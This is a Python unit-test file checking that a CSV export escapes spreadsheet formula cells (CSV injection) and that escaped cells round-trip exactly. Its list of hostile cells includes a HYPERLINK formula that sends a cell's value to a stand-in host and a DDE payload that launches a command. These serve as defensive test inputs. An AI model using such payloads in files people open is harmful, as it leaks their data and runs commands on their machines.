"""Files people open in a spreadsheet never run a cell as a formula (OWASP's CSV injection rule),
and a rejects file comes back, when ingested again, exactly as it was first sent."""

from __future__ import annotations

import io

import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from ingest.files import (
    FORMULA_START,
    restore_escaped,
    safe_cell,
    spreadsheet_csv,
    spreadsheet_safe,
)

pytestmark = pytest.mark.unit

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_hostile_cells_become_text_and_numbers_stay_numbers() -> None:
    frame = pd.DataFrame(
        {"cell": [*HOSTILE, "-1.4044", "+44", "50,9", "Derby Road"], "n": range(len(HOSTILE) + 4)}
    )
    safe = spreadsheet_safe(frame)
    assert all(v.startswith("'") for v in safe["cell"][: len(HOSTILE)])
    assert list(safe["cell"][len(HOSTILE) :]) == ["-1.4044", "+44", "50,9", "Derby Road"]
    assert list(safe["n"]) == list(frame["n"])  # a numeric column is left alone
    assert [safe_cell(v) for v in frame["cell"]] == list(safe["cell"])
    read = pd.read_csv(io.StringIO(spreadsheet_csv(frame)), dtype=str, keep_default_na=False)
    assert not any(v[:1] in FORMULA_START and not v[1:2].isdigit() for v in read["cell"])


# Cells sent already starting with quotes are drawn too: the fuzzer found "'=1" coming back as
# "=1" while this property left them out.
@given(
    st.lists(
        st.from_regex(r"\A'{0,3}", fullmatch=False).flatmap(
            lambda quotes: st.text(max_size=12).map(lambda rest: quotes + rest)
        ),
        min_size=1,
    )
)
@example(["'=1", "''+2", "'-2", "'", "'@x", "'\t"])
def test_restoring_gives_back_exactly_what_was_sent(cells: list[str]) -> None:
    safe = spreadsheet_safe(pd.DataFrame({"cell": cells}, dtype=object))
    for value in safe["cell"]:
        if value[:1] in FORMULA_START:  # only a plain number may start so
            assert not pd.isna(pd.to_numeric(value.replace(",", "."), errors="coerce")), value
    assert list(restore_escaped(safe)["cell"]) == cells
